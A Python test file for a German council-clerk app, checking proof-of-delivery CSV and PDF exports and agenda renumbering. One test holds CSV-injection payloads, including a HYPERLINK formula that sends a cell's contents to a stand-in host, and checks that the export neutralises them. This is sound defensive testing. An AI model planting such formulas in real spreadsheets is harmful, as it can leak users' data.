# mypy: disable-error-code="no-untyped-call, attr-defined"
"""The proof-of-delivery table (CSV for German Excel, PDF with the late and missing rows highlighted) and
the agenda numbering rule."""

from __future__ import annotations

import csv
import io
from datetime import datetime
from typing import Any
from zoneinfo import ZoneInfo

import pymupdf
import pytest

from gremalda.core.clerk.deliveries import DeliveryTable
from gremalda.core.clerk.errors import ServerTrouble
from gremalda.core.clerk.numbering import renumber, sub_part

BERLIN = ZoneInfo("Europe/Berlin")
ANSWER: dict[str, object] = {
    "meeting": {
        "id": 7,
        "name": "Ausschuss für Umwelt; Sitzung \"März\"",
        "start": "2026-03-20T17:00:00+00:00",
        "published_at": "2026-03-05T09:00:00+00:00",
        "notice_days": 7,
        "deadline": "2026-03-13T17:00:00+00:00",
    },
    "rows": [
        {"person_id": 1, "name": "Anna Ärger", "role": "Mitglied", "deputy": False, "user_id": 11,
         "first_complete_at": "2026-03-05T09:00:03+00:00", "current_complete_at": "2026-03-06T10:00:00+00:00",
         "first_opened_at": "2026-03-05T20:15:00+00:00", "status": "on_time"},
        {"person_id": 2, "name": "Bernd Spät", "role": "Mitglied", "deputy": False, "user_id": 12,
         "first_complete_at": "2026-03-15T08:00:00+00:00", "current_complete_at": None,
         "first_opened_at": None, "status": "late"},
        {"person_id": 3, "name": "Carla Fehlt", "role": "Stellvertretung", "deputy": True, "user_id": 13,
         "first_complete_at": None, "current_complete_at": None, "first_opened_at": None,
         "status": "missing"},
        {"person_id": 4, "name": "Dieter Ohne", "role": "Mitglied", "deputy": False, "user_id": None,
         "first_complete_at": None, "current_complete_at": None, "first_opened_at": None,
         "status": "no_account"},
    ],
}  # fmt: skip


def local(text: str) -> str:  # the body's time zone (the answer names none: the default, Berlin)
    return datetime.fromisoformat(text).astimezone(BERLIN).isoformat(timespec="seconds")


def test_csv_for_german_excel() -> None:
    table = DeliveryTable.from_json(ANSWER)
    text = table.to_csv()
    assert text.startswith("\ufeff") and "\r\n" in text
    rows = list(csv.reader(io.StringIO(text.removeprefix("\ufeff")), delimiter=";"))
    assert rows[0] == [
        "Mitglied", "Funktion", "Stellvertretung", "Einladung vollständig",
        "Aktueller Stand vollständig", "Erstmals geöffnet", "Status",
    ]  # fmt: skip
    assert rows[1] == [
        "Anna Ärger", "Mitglied", "nein", local("2026-03-05T09:00:03+00:00"),
        local("2026-03-06T10:00:00+00:00"), local("2026-03-05T20:15:00+00:00"), "fristgerecht",
    ]  # fmt: skip
    assert [r[-1] for r in rows[1:]] == ["fristgerecht", "verspätet", "nicht zugestellt", "kein Zugang"]
    assert rows[3][2] == "ja" and rows[3][3] == ""
    english = table.to_csv("en")
    assert english.splitlines()[0].removeprefix("\ufeff").startswith("Member;Role;Deputy;Invitation complete")


def test_pdf_has_the_heading_and_highlights_late_and_missing_rows() -> None:
    table = DeliveryTable.from_json(ANSWER)
    data = table.to_pdf()
    doc = pymupdf.open(stream=data, filetype="pdf")
    text = "".join(page.get_text() for page in doc)
    assert "Zustellnachweis" in text and "Ausschuss für Umwelt" in text
    assert "Frist: Zugang bis" in text and table.deadline is not None
    assert table.deadline.astimezone(BERLIN).strftime("%d.%m.%Y %H:%M") in text
    for name in ("Anna Ärger", "Bernd Spät", "Carla Fehlt", "Dieter Ohne", "verspätet", "nicht zugestellt"):
        assert name in text
    summary = "1 von 4 fristgerecht, 1 verspätet, 1 nicht zugestellt, 0 ausstehend, 1 ohne Zugang"
    assert summary in " ".join(text.split())
    page = doc[0]
    colours = {
        tuple(round(c, 2) for c in drawing["fill"])
        for drawing in page.get_drawings()
        if drawing.get("fill") is not None
    }
    assert (1.0, 0.88, 0.54) in colours  # late: amber
    assert (1.0, 0.7, 0.7) in colours  # missing: red


def test_many_rows_go_onto_several_pages() -> None:
    template: dict[str, Any] = ANSWER["rows"][2]  # type: ignore[index]
    rows = [dict(template, person_id=i, name=f"Person {i}") for i in range(120)]
    table = DeliveryTable.from_json({"meeting": ANSWER["meeting"], "rows": rows})
    doc = pymupdf.open(stream=table.to_pdf(), filetype="pdf")
    assert doc.page_count >= 2
    assert "Person 119" in doc[-1].get_text()


def test_a_malformed_answer_is_a_clear_error() -> None:
    with pytest.raises(ServerTrouble, match="delivery table"):
        DeliveryTable.from_json({"rows": []})
    table = DeliveryTable.from_json(
        {"meeting": {"id": 1, "name": "x", "start": "2026-01-10T10:00:00Z", "notice_days": 7}, "rows": []}
    )
    assert table.deadline == datetime(2026, 1, 2, 23, 59, 59, tzinfo=BERLIN)  # the server's rule


def test_numbering_keeps_sub_numbers_with_their_main_item() -> None:
    assert sub_part("3a") == "a" and sub_part("3.1") == ".1" and sub_part("N1") is None
    plan = renumber([("x", "5"), ("y", "5a"), ("z", "1"), ("w", "N1"), ("v", "2.1"), ("u", "")])
    assert [(p.item_id, p.number, p.order) for p in plan] == [
        ("x", "1", 1), ("y", "1a", 2), ("z", "2", 3), ("w", "3", 4), ("v", "3.1", 5), ("u", "4", 6),
    ]  # fmt: skip
    top = renumber([("a", "3b"), ("b", "1")])  # a sub-number moved to the top becomes a main item
    assert [p.number for p in top] == ["1", "2"]


def test_csv_cells_are_never_formulas() -> None:
    """Names and roles come from the server (typed by people): a spreadsheet must show them, not run them."""
    hostile = {
        **ANSWER,
        "rows": [
            {**ANSWER["rows"][0], "name": '=HYPERLINK("http://x.invalid/?"&A1;"Anna")', "role": "+Mitglied"},  # type: ignore[index]
            {**ANSWER["rows"][1], "name": "-2+3", "role": "@SUM(A1:A2)"},  # type: ignore[index]
            {**ANSWER["rows"][2], "name": "\tTab", "role": "Mitglied"},  # type: ignore[index]
        ],
    }
    text = DeliveryTable.from_json(hostile).to_csv()
    rows = list(csv.reader(io.StringIO(text.removeprefix("\ufeff")), delimiter=";"))
    assert [r[:2] for r in rows[1:]] == [
        ['\'=HYPERLINK("http://x.invalid/?"&A1;"Anna")', "'+Mitglied"],
        ["'-2+3", "'@SUM(A1:A2)"],
        ["'\tTab", "Mitglied"],
    ]
    assert all(not cell.startswith(("=", "+", "-", "@")) for r in rows for cell in r)
    plain = DeliveryTable.from_json(ANSWER).to_csv()
    assert "'" not in plain  # ordinary names and times unchanged
